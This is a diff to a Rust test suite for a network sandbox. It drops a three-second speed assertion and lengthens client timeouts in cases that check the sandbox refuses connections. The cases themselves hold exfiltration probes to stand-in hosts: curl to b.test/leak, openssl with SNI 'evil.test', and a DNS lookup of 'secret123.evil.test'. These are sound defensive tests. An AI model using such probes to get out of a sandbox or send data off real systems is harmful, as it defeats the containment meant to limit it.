@@ -8,7 +8,7 @@ use std::time::Duration;
 use stockade_test::case::Control;
 use stockade_test::report;
 use stockade_test::{
-    Case, Flag, HostSide, Need, Sign, allowed, attack, closure, exits, heard, not, prints, quiet,
+    Case, Flag, HostSide, Need, allowed, attack, closure, exits, heard, not, prints, quiet,
     stderr_has, stdout_is,
 };
 
@@ -21,15 +21,6 @@ pub(crate) fn cases() -> Vec<Case> {
     cases.extend(ports());
     cases.extend(reports());
     cases
-}
-
-fn fast() -> Sign {
-    closure("over in three seconds", |scene| {
-        scene
-            .outcomes
-            .iter()
-            .all(|outcome| outcome.elapsed < Duration::from_secs(3))
-    })
 }
 
 /// The hosts of the suite as `a.test`.
@@ -125,6 +116,7 @@ s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); print(s.recv(12).decode())",
     ]
 }
 
+/// Nobody has to wait for a refusal: no client gives up by itself before the case's time is up.
 fn refusals() -> Vec<Case> {
     vec![
         listed(attack("W07", "a host that is not listed"))
@@ -132,28 +124,26 @@ fn refusals() -> Vec<Case> {
             .sh("curl -sS --resolve b.test:@HTTP@:127.0.0.1 http://b.test:@HTTP@/leak; curl -sS http://b.test:@HTTP@/leak")
             .leak(heard("/leak"))
             .boxed(prints("b.test"))
-            .boxed(prints("--allow b.test:@HTTP@"))
-            .boxed(fast()),
+            .boxed(prints("--allow b.test:@HTTP@")),
         listed(attack("W07b", "https to a host that is not listed"))
             .needs(Need::Tool("curl"))
             .sh("curl -sSk --resolve b.test:@HTTPS@:127.0.0.1 https://b.test:@HTTPS@/leak")
             .leak(heard("/leak"))
-            .boxed(stderr_has("403"))
-            .boxed(fast()),
+            .boxed(stderr_has("403")),
         listed(attack("W20b", "a host that is not listed, without the proxy"))
             .needs(Need::Tool("curl"))
-            .sh("curl -sS --noproxy '*' --resolve b.test:@HTTP@:127.0.0.1 http://b.test:@HTTP@/leak; \
+            .sh("test -z \"$http_proxy\" || export RES_OPTIONS=timeout:30
+                 curl -sS --noproxy '*' --resolve b.test:@HTTP@:127.0.0.1 http://b.test:@HTTP@/leak; \
                  curl -sS --noproxy '*' http://b.test:@HTTP@/leak")
             .leak(heard("/leak"))
-            .boxed(not(exits(0)))
-            .boxed(fast()),
+            .boxed(not(exits(0))),
         listed(attack("W22", "an address that nobody listed"))
             .needs(Need::Lan)
             .side(HostSide::Tcp)
             .python(
                 "
 def dial(place):
-    s = socket.create_connection(place, 2); s.sendall(b'x'); return s
+    s = socket.create_connection(place, 60); s.sendall(b'x'); return s
 trying('lan', lambda: dial(('@LAN@', @PORT@)))
 trying('listed port', lambda: dial(('203.0.113.9', @HTTP@)))
 trying('six', lambda: dial(('2001:db8::1', @HTTP@)))",
@@ -161,8 +151,7 @@ trying('six', lambda: dial(('2001:db8::1', @HTTP@)))",
             .leak(heard("connected"))
             .boxed(prints("lan=ECONNREFUSED"))
             .boxed(prints("listed port=ECONNREFUSED"))
-            .boxed(prints("six=ECONNREFUSED"))
-            .boxed(fast()),
+            .boxed(prints("six=ECONNREFUSED")),
         listed(attack("W22b", "datagrams to anywhere"))
             .needs(Need::Lan)
             .side(HostSide::Udp)
@@ -175,9 +164,8 @@ trying('loopback', lambda: s.sendto(b'to-loopback', ('127.0.0.1', @UDPPORT@)))",
             .leak(heard("to-loopback")),
         listed(attack("W04c", "the host's loopback, with a list"))
             .side(HostSide::Tcp)
-            .python("trying('x', lambda: socket.create_connection(('127.0.0.1', @PORT@), 2).sendall(b'x'))")
-            .leak(heard("connected"))
-            .boxed(fast()),
+            .python("trying('x', lambda: socket.create_connection(('127.0.0.1', @PORT@), 60).sendall(b'x'))")
+            .leak(heard("connected")),
         listed(attack("W18", "another Host than the one that was asked for"))
             .needs(Need::Tool("curl"))
             .control(Control::Script(
@@ -194,8 +182,7 @@ trying('loopback', lambda: s.sendto(b'to-loopback', ('127.0.0.1', @UDPPORT@)))",
             ))
             .sh("printf 'GET /leak HTTP/1.0\\r\\n\\r\\n' | openssl s_client -quiet -connect a.test:@HTTPS@ -servername evil.test; \
                  printf 'GET /leak HTTP/1.0\\r\\n\\r\\n' | openssl s_client -quiet -proxy ${http_proxy#http://} -connect a.test:@HTTPS@ -servername evil.test")
-            .leak(heard("/leak"))
-            .boxed(fast()),
+            .leak(heard("/leak")),
         listed(attack("W15", "an allowed name that leads to loopback"))
             .needs(Need::Tool("curl"))
             .flag(Flag::Allow("localhost:@HTTP@".into()))
@@ -212,11 +199,10 @@ trying('loopback', lambda: s.sendto(b'to-loopback', ('127.0.0.1', @UDPPORT@)))",
             .needs(Need::Lan)
             .needs(Need::Tool("curl"))
             .side(HostSide::Tcp)
-            .sh("curl -sS -m 2 --resolve a.test:@PORT@:127.0.0.1 http://a.test:@PORT@/; \
-                 curl -sS -m 2 http://a.test:@PORT@/; curl -sS -m 2 --noproxy '*' http://a.test:@PORT@/")
+            .sh("curl -sS --speed-limit 1 --speed-time 1 --resolve a.test:@PORT@:127.0.0.1 http://a.test:@PORT@/; \
+                 curl -sS --speed-limit 1 --speed-time 1 http://a.test:@PORT@/; curl -sS --speed-limit 1 --speed-time 1 --noproxy '*' http://a.test:@PORT@/")
             .leak(heard("connected"))
-            .boxed(prints("--allow a.test:@PORT@"))
-            .boxed(fast()),
+            .boxed(prints("--allow a.test:@PORT@")),
     ]
 }
 
@@ -245,11 +231,10 @@ fn names() -> Vec<Case> {
             .control(ONLY_INSIDE)
             .boxed(stdout_is("x.a.test 403\na.test 200\ny.x.a.test 200\nxa.test 403")),
         listed(allowed("W17", "names that are not listed do not exist inside"))
-            .sh("getent hosts secret123.evil.test || echo none; getent ahostsv4 a.test | head -1 | cut -d' ' -f1")
+            .sh("export RES_OPTIONS=timeout:30; getent hosts secret123.evil.test || echo none; getent ahostsv4 a.test | head -1 | cut -d' ' -f1")
             .control(ONLY_INSIDE)
             .boxed(prints("none"))
-            .boxed(prints("198.18."))
-            .boxed(fast()),
+            .boxed(prints("198.18.")),
         listed(allowed("W17b", "questions over connections, and malformed ones"))
             .python(
                 "
@@ -292,7 +277,7 @@ trying('name', lambda: ask('localhost', @ECHO@))",
             .side(HostSide::Web)
             .side(HostSide::Tcp)
             .flag(Flag::HostPort("@ECHO@".into()))
-            .python("trying('other', lambda: socket.create_connection(('127.0.0.1', @PORT@), 2).sendall(b'x'))")
+            .python("trying('other', lambda: socket.create_connection(('127.0.0.1', @PORT@), 60).sendall(b'x'))")
             .leak(heard("connected: x"))
             .boxed(prints("other=ECONNREFUSED")),
         allowed("W32", "a port inside on the host's loopback")
